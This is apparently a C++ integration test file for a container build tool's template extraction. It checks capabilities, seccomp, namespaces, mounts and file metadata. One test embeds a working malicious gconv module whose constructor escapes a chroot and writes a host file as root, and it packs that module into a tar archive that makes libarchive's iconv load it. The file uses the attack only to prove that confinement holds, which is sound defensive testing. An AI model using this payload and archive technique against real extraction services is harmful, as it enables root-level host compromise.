// build -m template (lib/build/template.cc) on the real kernel (root): the extraction runs in
// a confined context and no code of the template is ever loaded (issue 18), while owners,
// modes, setuid bits, file capabilities and device nodes come out as before (SECURITY.md
// E41).
//
// The gconv attack: a template that first extracts usr/lib/x86_64-linux-gnu/gconv/
// gconv-modules (and gconv-modules.d/*.conf, which glibc 2.36 reads too) mapping UTF-8 to
// ASCII through a module EVIL, then EVIL.so, then an entry with a non-ASCII name in a UTF-8
// pax header. libarchive converts that name with iconv; glibc reads its gconv configuration
// once per process, from whatever `/` is at that moment. In an extraction chrooted into the
// half-built tree it is the tree's, and EVIL.so's constructor runs with every capability:
// it climbs out of the chroot and writes a host file. Because the configuration is read once
// per process (and this test process has read the host's already), both extractions run in
// fresh processes: a small program built here for the weak one, `vserver-build` for ours.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <linux/capability.h>
#include <poll.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <chrono>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <memory>
#include <optional>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "kernel-shim/context_table.h"
#include "lib/base/unique_fd.h"
#include "lib/build/build.h"
#include "tests/integration/build_support.h"
#include "tests/support/weak_extractor.h"
#include "tests/support/bg_process.h"
#include "tests/support/root_env.h"
#include "tests/support/run_cmd.h"
#include "tests/support/tar_writer.h"

namespace vs {
namespace {

namespace fs = std::filesystem;
using test::run_cmd;
using test::slurp;
using test::TarEntry;
using test::tool_path;
using test::write_tar;

constexpr const char* kGconvDir = "usr/lib/x86_64-linux-gnu/gconv";

// The module: first a mark in its current directory (the root of the tree being extracted,
// in both setups), to see that it ran at all; then out of the chroot (a chroot into a
// subdirectory, then `..` past the old root) and a file written at HOST_MARKER as root.
constexpr const char* kEvilModule = R"(#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
__attribute__((constructor)) static void evil(void) {
  int fd = open("gconv-module-ran", O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd >= 0) close(fd);
  mkdir("gconv-escape", 0700);
  if (chroot("gconv-escape") == 0) {
    for (int i = 0; i < 64; ++i) (void)chdir("..");
    (void)chroot(".");
  }
  fd = open(HOST_MARKER, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd >= 0) {
    (void)write(fd, "escaped\n", 8);
    close(fd);
  }
}
int gconv(void) { return 0; }
int gconv_init(void) { return 0; }
)";

void write_file(const std::string& path, const std::string& text) {
  std::ofstream(path, std::ios::binary | std::ios::trunc) << text;
}

class BuildTemplate : public test::BuildDirs {
 protected:
  // `vserver-build NAME -m template --source TARBALL [--hostname H]` with this test's config
  // and vdir base.
  test::CmdResult tool_build(const std::string& name, const std::string& tarball,
                             const std::vector<std::string>& extra = {}) {
    std::vector<std::string> argv = {tool_path("vserver-build"), "--confdir", dir_ + "/etc",
                                     "--vdirbase", dir_ + "/vservers", name, "-m", "template",
                                     "--source", tarball, "-q"};
    argv.insert(argv.end(), extra.begin(), extra.end());
    return run_cmd(argv, 120);
  }

  // `vserver-build NAME -m template` in the background on a FIFO that the test holds back:
  // once the extraction runs (and waits for the tarball), `*body` is its host pid, the
  // context's first process. held_tar_ is the tarball to write into fifo_fd_ afterwards.
  void start_held_build(const std::string& name, pid_t* body) {
    held_tar_ = dir_ + "/small.tar.gz";
    write_tar(held_tar_, {{"etc/", AE_IFDIR, "", "", "", 0755}, {"etc/hostname", AE_IFREG, "x\n"}});
    const std::string fifo = dir_ + "/tar.fifo";
    ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
    ASSERT_TRUE(table_.prepare());  // the cgroup layout, for the reap in TearDown
    auto before = table_.entries();
    ASSERT_TRUE(before) << before.error().message();
    for (auto x : *before) old_contexts_.insert(x.value());
    tool_ = std::make_unique<test::BgProcess>(
        std::vector<std::string>{tool_path("vserver-build"), "--confdir", dir_ + "/etc",
                                 "--vdirbase", dir_ + "/vservers", name, "-m", "template",
                                 "--source", fifo, "-q"},
        dir_ + "/tool.log");
    // The tool opens the FIFO for reading once it has checked the request.
    for (int i = 0; i < 1000 && fifo_fd_ < 0; ++i) {
      fifo_fd_ = ::open(fifo.c_str(), O_WRONLY | O_NONBLOCK | O_CLOEXEC);
      if (fifo_fd_ < 0) std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    ASSERT_GE(fifo_fd_, 0) << "vserver-build never opened the tarball: "
                           << slurp(dir_ + "/tool.log");
    // The context: a new entry whose first process (the extraction) runs.
    for (int i = 0; i < 1000 && *body == 0; ++i) {
      for (auto x : new_contexts()) {
        auto st = table_.read_state(x);
        if (st && st->init_pid > 0 && st->stage == shim::ContextStage::kRunning) {
          *body = st->init_pid;
        }
      }
      if (*body == 0) std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    ASSERT_GT(*body, 0) << "no extraction context appeared: " << slurp(dir_ + "/tool.log");
  }

  // The contexts made since start_held_build().
  std::vector<shim::Xid> new_contexts() {
    std::vector<shim::Xid> out;
    if (auto now = table_.entries()) {
      for (auto x : *now) {
        if (!old_contexts_.count(x.value())) out.push_back(x);
      }
    }
    return out;
  }

  void TearDown() override {
    if (fifo_fd_ >= 0) ::close(fifo_fd_);
    if (tool_) {
      tool_.reset();
      // A build killed before its creator reaped the context leaves an entry, dead once its
      // body (killed with the build) is gone: reaped as the next command would.
      for (int i = 0; i < 200 && !new_contexts().empty(); ++i) {
        for (auto x : new_contexts()) (void)table_.reap(x);
        if (!new_contexts().empty()) std::this_thread::sleep_for(std::chrono::milliseconds(10));
      }
      EXPECT_TRUE(new_contexts().empty()) << "the killed build's context was never reaped";
    }
    test::BuildDirs::TearDown();
  }

  shim::ContextTable table_{test::shim_config()};
  std::set<uint16_t> old_contexts_;
  std::unique_ptr<test::BgProcess> tool_;
  int fifo_fd_ = -1;
  std::string held_tar_;
};

// The attack works against the weak setup (so this test can fail) and does nothing against
// build -m template: neither mark exists, and the module is only data in the new tree.
TEST_F(BuildTemplate, GconvModuleOfTheTemplateNeverRuns) {
  ASSERT_TRUE(fs::is_directory(std::string("/") + kGconvDir)) << "the host's gconv directory";
  const std::string host_marker = dir_ + "/host/escaped";
  write_file(dir_ + "/evil.c", kEvilModule);
  auto cc = run_cmd({"gcc", "-shared", "-fPIC", "-o", dir_ + "/EVIL.so", dir_ + "/evil.c",
                     "-DHOST_MARKER=\"" + host_marker + "\""});
  ASSERT_EQ(cc.status, 0) << "gcc: " << cc.err;
  write_file(dir_ + "/weak.c", test::kWeakExtractor);
  cc = run_cmd({"gcc", "-o", dir_ + "/weak-extract", dir_ + "/weak.c", "-larchive"});
  ASSERT_EQ(cc.status, 0) << "gcc: " << cc.err;

  const std::string conf =
      "module ISO-10646/UTF8/ ANSI_X3.4-1968// EVIL 1\n"
      "module ANSI_X3.4-1968// ISO-10646/UTF8/ EVIL 1\n";
  const std::string g = kGconvDir;
  // No pax header before the last entry: the first one makes libarchive set up iconv.
  std::vector<TarEntry> entries = {
      {"usr/", AE_IFDIR, "", "", "", 0755},
      {"usr/lib/", AE_IFDIR, "", "", "", 0755},
      {"usr/lib/x86_64-linux-gnu/", AE_IFDIR, "", "", "", 0755},
      {g + "/", AE_IFDIR, "", "", "", 0755},
      {g + "/gconv-modules", AE_IFREG, conf},
      {g + "/gconv-modules.d/", AE_IFDIR, "", "", "", 0755},
      {g + "/gconv-modules.d/evil.conf", AE_IFREG, conf},
      {g + "/EVIL.so", AE_IFREG, slurp(dir_ + "/EVIL.so"), "", "", 0755},
      {"caf\xc3\xa9", AE_IFREG, "non-ASCII name\n"},
  };
  const std::string tar = dir_ + "/gconv.tar.gz";
  write_tar(tar, entries, true);

  // 1. The weak setup: the module runs, and writes the host file. (The extraction itself
  // then fails at the last entry, whose name EVIL does not convert: too late.)
  const std::string weak_tree = dir_ + "/weak-tree";
  ASSERT_EQ(::mkdir(weak_tree.c_str(), 0755), 0);
  auto weak = run_cmd({dir_ + "/weak-extract", weak_tree, tar});
  ASSERT_TRUE(fs::exists(weak_tree + "/gconv-module-ran"))
      << "the attack did not work against a chroot with full capabilities (status "
      << weak.status << "): this test proves nothing";
  ASSERT_TRUE(fs::exists(host_marker)) << "the module ran but did not escape the chroot";
  fs::remove(host_marker);

  // 2. build -m template, as `vserver NAME build` runs it.
  auto r = tool_build("gconv", tar);
  const std::string vdir = dir_ + "/vservers/gconv";
  EXPECT_FALSE(fs::exists(host_marker)) << "the template's gconv module wrote a host file";
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_FALSE(fs::exists(vdir + "/gconv-module-ran")) << "the template's gconv module ran";
  EXPECT_FALSE(fs::exists(vdir + "/gconv-escape"));
  EXPECT_EQ(slurp(vdir + "/" + g + "/EVIL.so"), slurp(dir_ + "/EVIL.so"));
  EXPECT_EQ(slurp(vdir + "/" + g + "/gconv-modules"), conf);
  // The name itself: as the C locale renders it (libarchive keeps the bytes it cannot
  // convert), never dropped.
  bool named = false;
  for (const auto& e : fs::directory_iterator(vdir)) {
    if (e.path().filename().string().rfind("caf", 0) == 0) {
      named = true;
      EXPECT_EQ(slurp(e.path()), "non-ASCII name\n");
    }
  }
  EXPECT_TRUE(named) << "the entry with the non-ASCII name is missing";
}

// The on-disk form of a file capability: cap_net_raw=ep (struct vfs_cap_data, revision 2).
std::string net_raw_capability() {
  uint32_t words[5] = {VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE, 1u << CAP_NET_RAW, 0, 0,
                       0};
  return std::string(reinterpret_cast<const char*>(words), sizeof words);
}

std::optional<std::string> xattr_of(const std::string& path, const char* name) {
  char buf[256];
  ssize_t n = ::lgetxattr(path.c_str(), name, buf, sizeof buf);
  if (n < 0) return std::nullopt;
  return std::string(buf, static_cast<size_t>(n));
}

struct Meta {
  mode_t mode;
  uid_t uid;
  gid_t gid;
};

Meta meta_of(const std::string& path) {
  struct stat st {};
  EXPECT_EQ(::lstat(path.c_str(), &st), 0) << path;
  return {st.st_mode, st.st_uid, st.st_gid};
}

TarEntry owned(std::string name, int type, std::string data, mode_t mode, uid_t uid, gid_t gid) {
  TarEntry e(std::move(name), type, std::move(data), "", "", mode);
  e.uid = uid;
  e.gid = gid;
  return e;
}

// Owners, modes with setuid/setgid/sticky bits, file capabilities and other extended
// attributes come out as the archive says, without CAP_SYS_ADMIN; trusted.* ones (which need
// it) are left out with one warning naming the first entry.
TEST_F(BuildTemplate, RestoresOwnersModesSetuidAndFileCapabilities) {
  TarEntry ping = owned("bin/ping", AE_IFREG, "ping", 0755, 0, 0);
  ping.xattrs = {{"security.capability", net_raw_capability()}, {"user.note", "pings"}};
  TarEntry overlay = owned("etc/opaque", AE_IFREG, "x", 0644, 0, 0);
  overlay.xattrs = {{"trusted.overlay.opaque", "y"}, {"user.keep", "k"}};
  const std::string tar = dir_ + "/meta.tar.gz";
  write_tar(tar, {
                     owned("./", AE_IFDIR, "", 0755, 0, 0),
                     owned("bin/", AE_IFDIR, "", 0755, 0, 0),
                     owned("bin/su", AE_IFREG, "su", 04755, 0, 0),
                     owned("bin/wall", AE_IFREG, "wall", 02755, 0, 5),
                     ping,
                     owned("etc/", AE_IFDIR, "", 0755, 0, 0),
                     owned("etc/shadow", AE_IFREG, "root:*:1::::::\n", 0640, 0, 42),
                     overlay,
                     owned("home/", AE_IFDIR, "", 0755, 0, 0),
                     owned("home/u/", AE_IFDIR, "", 0750, 1000, 1000),
                     owned("home/u/secret", AE_IFREG, "s", 0600, 1000, 1000),
                     owned("home/u/tool", AE_IFREG, "t", 06711, 1000, 1001),
                     owned("ro/", AE_IFDIR, "", 0555, 0, 0),
                     owned("ro/f", AE_IFREG, "f", 0444, 0, 0),
                     owned("tmp/", AE_IFDIR, "", 01777, 0, 0),
                 });
  auto o = opts();
  auto r = build_template(o, tar);
  ASSERT_TRUE(r) << r.error().message();
  const std::string& v = o.vdir;
  struct Want {
    const char* path;
    mode_t mode;
    uid_t uid;
    gid_t gid;
  };
  for (const Want& w : {Want{"", 0755, 0, 0}, Want{"/bin/su", 04755, 0, 0},
                        Want{"/bin/wall", 02755, 0, 5}, Want{"/bin/ping", 0755, 0, 0},
                        Want{"/etc/shadow", 0640, 0, 42}, Want{"/home/u", 0750, 1000, 1000},
                        Want{"/home/u/secret", 0600, 1000, 1000},
                        Want{"/home/u/tool", 06711, 1000, 1001}, Want{"/ro", 0555, 0, 0},
                        Want{"/ro/f", 0444, 0, 0}, Want{"/tmp", 01777, 0, 0}}) {
    SCOPED_TRACE(w.path);
    Meta m = meta_of(v + w.path);
    EXPECT_EQ(m.mode & 07777, w.mode);
    EXPECT_EQ(m.uid, w.uid);
    EXPECT_EQ(m.gid, w.gid);
  }
  EXPECT_EQ(slurp(v + "/home/u/secret"), "s");
  EXPECT_EQ(xattr_of(v + "/bin/ping", "security.capability"), net_raw_capability())
      << "the file capability was not restored";
  EXPECT_EQ(xattr_of(v + "/bin/ping", "user.note"), "pings");
  EXPECT_EQ(xattr_of(v + "/etc/opaque", "user.keep"), "k");
  EXPECT_EQ(xattr_of(v + "/etc/opaque", "trusted.overlay.opaque"), std::nullopt);
  auto getcap = run_cmd({"/usr/sbin/getcap", v + "/bin/ping"});
  EXPECT_NE(getcap.out.find("cap_net_raw=ep"), std::string::npos) << getcap.out << getcap.err;
  ASSERT_EQ(r->warnings.size(), 1u) << (r->warnings.empty() ? "" : r->warnings.back());
  EXPECT_NE(r->warnings[0].find("1 entries had trusted.*"), std::string::npos) << r->warnings[0];
  EXPECT_NE(r->warnings[0].find("`etc/opaque` (trusted.overlay.opaque)"), std::string::npos)
      << r->warnings[0];
  // Nothing but the new tree is left next to it: no staging tree, no scratch root.
  std::vector<std::string> names;
  for (const auto& e : fs::directory_iterator(dir_ + "/vservers")) {
    names.push_back(e.path().filename());
  }
  EXPECT_EQ(names, std::vector<std::string>{"g"});
}

// Device nodes: skipped and counted by default (the host makes /dev), recreated with
// keep_devices (the extraction then holds CAP_MKNOD); FIFOs are files either way.
TEST_F(BuildTemplate, DeviceNodesSkippedUnlessKept) {
  const std::string tar = dir_ + "/dev.tar.gz";
  write_tar(tar, {{"dev/", AE_IFDIR, "", "", "", 0755},
                  {"dev/null", AE_IFCHR, "", "", "", 0666, makedev(1, 3)},
                  {"dev/vsblk", AE_IFBLK, "", "", "", 0660, makedev(7, 200)},
                  {"run/", AE_IFDIR, "", "", "", 0755},
                  {"run/fifo", AE_IFIFO, "", "", "", 0620}});
  auto skipped = opts("skipped");
  auto r = build_template(skipped, tar);
  ASSERT_TRUE(r) << r.error().message();
  EXPECT_EQ(r->skipped_devices, 2u);
  EXPECT_FALSE(fs::exists(fs::symlink_status(skipped.vdir + "/dev/null")));
  EXPECT_FALSE(fs::exists(fs::symlink_status(skipped.vdir + "/dev/vsblk")));
  EXPECT_TRUE(S_ISFIFO(meta_of(skipped.vdir + "/run/fifo").mode));
  EXPECT_TRUE(r->warnings.empty()) << r->warnings.front();

  auto kept = opts("kept");
  kept.keep_devices = true;
  r = build_template(kept, tar);
  ASSERT_TRUE(r) << r.error().message();
  EXPECT_EQ(r->skipped_devices, 0u);
  struct stat st {};
  ASSERT_EQ(::lstat((kept.vdir + "/dev/null").c_str(), &st), 0);
  EXPECT_TRUE(S_ISCHR(st.st_mode));
  EXPECT_EQ(st.st_rdev, makedev(1, 3));
  EXPECT_EQ(st.st_mode & 07777, 0666u);
  ASSERT_EQ(::lstat((kept.vdir + "/dev/vsblk").c_str(), &st), 0);
  EXPECT_TRUE(S_ISBLK(st.st_mode));
  EXPECT_EQ(st.st_rdev, makedev(7, 200));
  EXPECT_EQ(st.st_mode & 07777, 0660u);
  EXPECT_TRUE(S_ISFIFO(meta_of(kept.vdir + "/run/fifo").mode));
  EXPECT_TRUE(r->warnings.empty()) << r->warnings.front();
}

// Progress comes while the extraction runs (every 256 entries, then at the end), and the
// count cap (E41) ends it with an error that names the entry, as before the extraction moved
// into its context.
TEST_F(BuildTemplate, ProgressAndCountCapThroughTheContext) {
  std::vector<TarEntry> entries = {{"d/", AE_IFDIR, "", "", "", 0755}};
  for (int i = 0; i < 600; ++i) entries.push_back({"d/f" + std::to_string(i), AE_IFREG, "x"});
  const std::string tar = dir_ + "/many.tar.gz";
  write_tar(tar, entries);
  auto o = opts();
  std::vector<uint64_t> seen;
  o.progress = [&](const BuildProgress& p) { seen.push_back(p.files); };
  auto r = build_template(o, tar);
  ASSERT_TRUE(r) << r.error().message();
  EXPECT_EQ(r->files, 601u);
  EXPECT_EQ(r->bytes, 600u);
  EXPECT_EQ(seen, (std::vector<uint64_t>{256, 512, 601}));

  auto capped = opts("capped");
  capped.max_files = 100;
  r = build_template(capped, tar);
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().subject, "d/f99") << r.error().message();
  EXPECT_EQ(r.error().code, EFBIG);
  EXPECT_EQ(r.error().detail, "more than 100 entries");
  ASSERT_FALSE(r.error().context.empty());
  EXPECT_EQ(r.error().context.back(),
            "build template `" + tar + "` into `" + capped.vdir + "`");
  std::vector<std::string> names;
  for (const auto& e : fs::directory_iterator(dir_ + "/vservers")) {
    names.push_back(e.path().filename());
  }
  EXPECT_EQ(names, std::vector<std::string>{"g"}) << "the failed build left something";
}

// /proc/PID/status field `name` (hex masks and small numbers).
std::optional<uint64_t> status_field(pid_t pid, const std::string& name) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
  std::string line;
  while (std::getline(in, line)) {
    if (line.rfind(name + ":", 0) != 0) continue;
    std::string value = line.substr(name.size() + 1);
    return std::stoull(value, nullptr, name.rfind("Cap", 0) == 0 ? 16 : 10);
  }
  return std::nullopt;
}

ino_t ns_inode(const std::string& pid, const char* ns) {
  struct stat st {};
  if (::stat(("/proc/" + pid + "/ns/" + ns).c_str(), &st) < 0) return 0;
  return st.st_ino;
}

// The extracting process seen from the host while it waits for the tarball (a FIFO the test
// holds back): exactly the extraction's capabilities, seccomp, namespaces of its own, and a
// root that holds the host's /usr read-only and the new tree at /target, nothing else
// writable but its own scratch root, /dev and the tree.
TEST_F(BuildTemplate, ExtractionRunsConfined) {
  pid_t body = 0;
  ASSERT_NO_FATAL_FAILURE(start_held_build("conf", &body));
  // Sealed and confined before the body runs; wait until its capabilities are dropped.
  const uint64_t want = (1ull << CAP_CHOWN) | (1ull << CAP_DAC_OVERRIDE) |
                        (1ull << CAP_FOWNER) | (1ull << CAP_FSETID) | (1ull << CAP_SETFCAP);
  std::optional<uint64_t> bnd;
  for (int i = 0; i < 500; ++i) {
    bnd = status_field(body, "CapBnd");
    if (bnd && *bnd == want) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ASSERT_TRUE(bnd);
  EXPECT_EQ(*bnd, want) << std::hex << "CapBnd " << *bnd;
  auto eff = status_field(body, "CapEff"), prm = status_field(body, "CapPrm");
  auto inh = status_field(body, "CapInh"), amb = status_field(body, "CapAmb");
  ASSERT_TRUE(eff && prm && inh && amb);
  EXPECT_EQ(*eff & ~want, 0u) << std::hex << "CapEff " << *eff;
  EXPECT_EQ(*prm & ~want, 0u) << std::hex << "CapPrm " << *prm;
  EXPECT_EQ(*inh, 0u);
  EXPECT_EQ(*amb, 0u);
  EXPECT_EQ(status_field(body, "Seccomp"), 2u) << "no seccomp filter";
  const std::string b = std::to_string(body);
  for (const char* ns : {"mnt", "pid", "net", "uts", "ipc", "cgroup"}) {
    EXPECT_NE(ns_inode(b, ns), 0u) << ns;
    EXPECT_NE(ns_inode(b, ns), ns_inode("self", ns)) << "the host's " << ns << " namespace";
  }
  // Its mounts: field 4 is the mount's root within its filesystem, 5 the mount point, 6 the
  // options.
  std::ifstream mi("/proc/" + b + "/mountinfo");
  std::string line;
  std::map<std::string, std::pair<std::string, std::string>> mounts;  // point -> root, opts
  while (std::getline(mi, line)) {
    std::istringstream ls(line);
    std::string id, parent, dev, root, point, options;
    ls >> id >> parent >> dev >> root >> point >> options;
    mounts[point] = {root, options};
  }
  ASSERT_TRUE(mounts.count("/")) << "no root mount";
  EXPECT_NE(mounts["/"].first.find("/vservers/conf.tpl-"), std::string::npos)
      << "root is " << mounts["/"].first;
  ASSERT_TRUE(mounts.count("/target"));
  EXPECT_NE(mounts["/target"].first.find("/vservers/conf.build-"), std::string::npos)
      << mounts["/target"].first;
  EXPECT_EQ(mounts["/target"].second.rfind("rw", 0), 0u) << mounts["/target"].second;
  ASSERT_TRUE(mounts.count("/usr"));
  EXPECT_EQ(mounts["/usr"].second.rfind("ro", 0), 0u) << "/usr " << mounts["/usr"].second;
  for (const auto& [point, m] : mounts) {
    bool writable = m.second.rfind("rw", 0) == 0;
    bool allowed = point == "/" || point == "/target" || point.rfind("/dev", 0) == 0 ||
                   point == "/proc";
    if (writable) {
      EXPECT_TRUE(allowed) << point << " is writable (" << m.first << ")";
    }
  }

  // Now the tarball: the build finishes.
  int flags = ::fcntl(fifo_fd_, F_GETFL);
  ASSERT_EQ(::fcntl(fifo_fd_, F_SETFL, flags & ~O_NONBLOCK), 0);
  std::string data = slurp(held_tar_);
  ASSERT_EQ(::write(fifo_fd_, data.data(), data.size()), static_cast<ssize_t>(data.size()));
  ::close(fifo_fd_);
  fifo_fd_ = -1;
  EXPECT_EQ(tool_->wait(), 0) << slurp(dir_ + "/tool.log");
  EXPECT_EQ(slurp(dir_ + "/vservers/conf/etc/hostname"), "conf\n");
  // The context is gone with its process.
  for (auto x : new_contexts()) ADD_FAILURE() << "context " << x.str() << " left";
}

// A build killed while it extracts (a terminal's ^C reaches the extraction, the init of its
// pid namespace, only to be ignored): the extraction ends with it, not later for no one.
TEST_F(BuildTemplate, ExtractionEndsWithTheBuild) {
  pid_t body = 0;
  ASSERT_NO_FATAL_FAILURE(start_held_build("killed", &body));
  UniqueFd pidfd(static_cast<int>(::syscall(SYS_pidfd_open, body, 0)));
  ASSERT_TRUE(pidfd) << std::strerror(errno);
  ASSERT_EQ(::kill(tool_->pid(), SIGKILL), 0);
  EXPECT_EQ(tool_->wait(), 128 + SIGKILL);
  struct pollfd p = {pidfd.get(), POLLIN, 0};
  EXPECT_EQ(::poll(&p, 1, 10000), 1) << "the extraction outlived the build by 10 s";
}

// A template whose etc/hostname is a FIFO: the build neither hangs opening it for writing
// nor writes through it; it says that the hostname was not written.
TEST_F(BuildTemplate, HostnameThatIsNotAFileIsReported) {
  const std::string tar = dir_ + "/fifo.tar.gz";
  write_tar(tar, {{"etc/", AE_IFDIR, "", "", "", 0755},
                  {"etc/hostname", AE_IFIFO, "", "", "", 0644}});
  auto r = tool_build("fifo", tar, {"--hostname", "h1"});
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.err.find("warning: hostname `h1` not written"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("a FIFO"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(dir_ + "/vservers/fifo/etc/hostname` a regular file"),
            std::string::npos)
      << r.err;
  EXPECT_TRUE(S_ISFIFO(meta_of(dir_ + "/vservers/fifo/etc/hostname").mode));
}

}  // namespace
}  // namespace vs
